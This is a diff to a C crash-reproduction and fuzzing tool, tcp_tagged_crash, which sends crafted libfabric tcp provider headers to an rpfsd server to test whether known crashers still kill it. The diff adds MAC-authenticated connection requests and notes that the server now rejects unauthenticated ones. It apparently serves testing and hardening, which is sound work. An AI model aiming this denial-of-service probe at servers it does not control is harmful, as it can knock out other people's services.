@@ -4,10 +4,15 @@
  * "tcpx", protocol version 3) by hand over a plain socket:
  *
  *   1. connection request: struct ofi_ctrl_hdr (32 bytes: version 3,
- *      type ofi_ctrl_connreq = 0, seg_size = htons(24), conn_data = 1 in
+ *      type ofi_ctrl_connreq = 0, seg_size = htons(48), conn_data = 1 in
  *      host order, which tells the provider that both ends have the same
- *      byte order) followed by rpfs's 24-byte CM private data (magic "RPFS",
- *      version 1, zero nonce). rpfsd decodes it and calls fi_accept.
+ *      byte order) followed by rpfs's 48-byte CM private data (proto.h:
+ *      magic "RPFS", protocol version, nonce, time, MAC). With the cluster
+ *      key (-k) the MAC is right, each request has a fresh nonce (the
+ *      server's replay guard refuses one it has seen) and rpfsd calls
+ *      fi_accept; without it rpfsd refuses the request (fi_reject) before
+ *      it creates an endpoint, so the provider's data path is never
+ *      reached.
  *   2. reads the connection response (ofi_ctrl_hdr type ofi_ctrl_connresp
  *      = 1, plus the server's CM data).
  *   3. sends one 16-byte struct tcpx_base_hdr: version 3, op (default 1 =
@@ -30,9 +35,12 @@
  *   -z SIZE     base header size (default = hdr_size)
  *   -R FILE     read the 16-byte header from FILE instead (raw bytes)
  *   -x HEX      the 16-byte header as 32 hex digits
- *   -c HEX      the connection request's CM private data instead of rpfs's
- *               version 1 message (for a server that wants another one;
- *               the liveness check sends it too)
+ *   -k KEYFILE  the cluster key: every connection request (the attack's
+ *               and the liveness check's) is a valid one, with a fresh
+ *               nonce, the time and the MAC (common/auth.c)
+ *   -c HEX      the connection request's CM private data, fixed (for
+ *               example rpfs protocol version 1's 24 bytes, which made
+ *               the 72-byte message; the liveness check sends it too)
  *   -n N        fuzz: N random headers, one connection each (seed -S)
  *   -S SEED     random seed for -n (default 1)
  *   -X          with -n: skip the two known crashers of stock 1.17 (op 1;
@@ -41,12 +49,19 @@
  *               the connection or die) before the liveness check
  *               (default 300)
  *   -1          one-shot: send connreq and header in one write(), without
- *               waiting for the accept (the 72-byte message of the report)
+ *               waiting for the accept (the 72-byte message of the report
+ *               with protocol version 1's CM data; 96 bytes with today's)
  *   -q          quiet
+ *
+ * Without -k and -c the request has the right shape and no valid MAC: a
+ * server that checks the key rejects it, which the program reports (and a
+ * rejection also counts as "alive" for the liveness check).
  *
  * Exit status: 0 the server is still alive, 1 the server died (connection
  * refused or no connection response afterwards), 2 usage or setup error
- * (for example the server was not reachable to begin with).
+ * (for example the server was not reachable to begin with; or, for a
+ * single attack, the server rejected the connection request, which the
+ * program says).
  * In fuzz mode (-n) it stops at the first header that kills the server,
  * prints it as hex and exits 1.
  */
@@ -67,6 +82,9 @@
 #include <time.h>
 #include <unistd.h>
 
+#include "auth.h"
+#include "proto.h"
+
 /* ---- libfabric 1.17 tcp provider wire format (protocol version 3) ---- */
 #define TCP_CTRL_HDR_VERSION 3	 /* TCPX_CTRL_HDR_VERSION */
 #define TCP_HDR_VERSION	     3	 /* TCPX_HDR_VERSION */
@@ -76,11 +94,6 @@
 #define CTRL_HDR_SIZE	     32	 /* sizeof(struct ofi_ctrl_hdr) */
 #define BASE_HDR_SIZE	     16	 /* sizeof(struct tcpx_base_hdr) */
 #define MAX_CM_DATA	     256 /* TCPX_MAX_CM_DATA_SIZE */
-
-/* ---- rpfs CM private data (common/proto.h) ---- */
-#define RPFS_MAGIC   0x53465052u /* "RPFS" little-endian */
-#define RPFS_VERSION 1
-#define RPFS_CM_SIZE 24
 
 static int quiet;
 
@@ -114,24 +127,38 @@ static void hex(FILE *f, const uint8_t *p, size_t n)
 		fprintf(f, "%02x", p[i]);
 }
 
-/* CM private data of the connection request: rpfs's 24-byte version 1
- * message by default, or what -c gave. */
+/* CM private data of the connection request: rpfs's, made fresh for each
+ * request (with the key's MAC when -k gave one), or fixed bytes from -c. */
 static uint8_t cm_data[MAX_CM_DATA];
 static size_t cm_len;
+static int cm_fixed;
+static struct auth_key key;
+static int have_key;
 
-static void default_cm_data(void)
+/* A request as rpfs's client makes it (xport_conn.c): a new nonce, the
+ * time, the MAC over the first PROTO_CM_REQ_MAC_OFF bytes; all-zero MAC
+ * without a key. */
+static void fresh_cm_data(void)
 {
-	memset(cm_data, 0, RPFS_CM_SIZE);
-	put32le(cm_data, RPFS_MAGIC);
-	put16le(cm_data + 4, RPFS_VERSION);
-	/* cm_data + 8: 16-byte nonce, zero */
-	cm_len = RPFS_CM_SIZE;
+	struct proto_cm_req m = {.magic = PROTO_MAGIC, .version = PROTO_VERSION};
+
+	auth_random(m.nonce, sizeof(m.nonce));
+	m.time_s = (uint64_t)time(NULL);
+	proto_cm_req_encode(cm_data, &m);
+	if (have_key) {
+		auth_mac(&key, "connreq", cm_data, PROTO_CM_REQ_MAC_OFF, NULL, 0, NULL, 0,
+			 m.mac);
+		proto_cm_req_encode(cm_data, &m);
+	}
+	cm_len = PROTO_CM_REQ_SIZE;
 }
 
 /* The connection request: ofi_ctrl_hdr + the CM data. buf has room for
- * CTRL_HDR_SIZE + MAX_CM_DATA. Returns its length (56 by default). */
+ * CTRL_HDR_SIZE + MAX_CM_DATA. Returns its length (80 unless -c). */
 static size_t build_connreq(uint8_t *buf)
 {
+	if (!cm_fixed)
+		fresh_cm_data();
 	memset(buf, 0, CTRL_HDR_SIZE);
 	buf[0] = TCP_CTRL_HDR_VERSION;	 /* version */
 	buf[1] = CTRL_CONNREQ;		 /* type */
@@ -457,7 +484,8 @@ static void usage(void)
 {
 	fprintf(stderr,
 		"usage: tcp_tagged_crash [-o OP] [-f FLAGS] [-d OPDATA] [-r CNT]\n"
-		"         [-s HDR_SIZE] [-z SIZE] [-x HEX32 | -R FILE] [-c CMHEX]\n"
+		"         [-s HDR_SIZE] [-z SIZE] [-x HEX32 | -R FILE]\n"
+		"         [-k KEYFILE | -c CMHEX]\n"
 		"         [-n N [-S SEED]]"
 		" [-X] [-w MS] [-1] [-q] HOST PORT\n"
 		"exit: 0 server alive, 1 server died, 2 usage/setup error\n");
@@ -470,12 +498,12 @@ int main(int argc, char **argv)
 	struct sockaddr_storage ss;
 	socklen_t sslen;
 	uint8_t hdr[BASE_HDR_SIZE];
-	const char *hexhdr = NULL, *rawfile = NULL, *hexcm = NULL;
+	const char *hexhdr = NULL, *rawfile = NULL, *hexcm = NULL, *keyfile = NULL;
 	long nfuzz = 0;
 	unsigned long seed = 1;
 	int one_shot = 0, wait_ms = 300, skip_known = 0, c, r;
 
-	while ((c = getopt(argc, argv, "o:f:d:r:s:z:x:R:c:n:S:w:X1q")) != -1) {
+	while ((c = getopt(argc, argv, "o:f:d:r:s:z:x:R:c:k:n:S:w:X1q")) != -1) {
 		switch (c) {
 		case 'o':
 			o.op = (unsigned)strtoul(optarg, NULL, 0);
@@ -505,6 +533,9 @@ int main(int argc, char **argv)
 		case 'c':
 			hexcm = optarg;
 			break;
+		case 'k':
+			keyfile = optarg;
+			break;
 		case 'n':
 			nfuzz = strtol(optarg, NULL, 0);
 			break;
@@ -533,8 +564,17 @@ int main(int argc, char **argv)
 		return 2;
 
 	build_base_hdr(hdr, &o);
-	default_cm_data();
+	if (keyfile) {
+		char why[512];
+
+		if (auth_key_load(keyfile, &key, why, sizeof(why))) {
+			fprintf(stderr, "tcp_tagged_crash: %s\n", why);
+			return 2;
+		}
+		have_key = 1;
+	}
 	if (hexcm) {
+		cm_fixed = 1;
 		cm_len = strlen(hexcm) / 2;
 		if (cm_len > MAX_CM_DATA || parse_hex(hexcm, cm_data, cm_len)) {
 			fprintf(stderr,
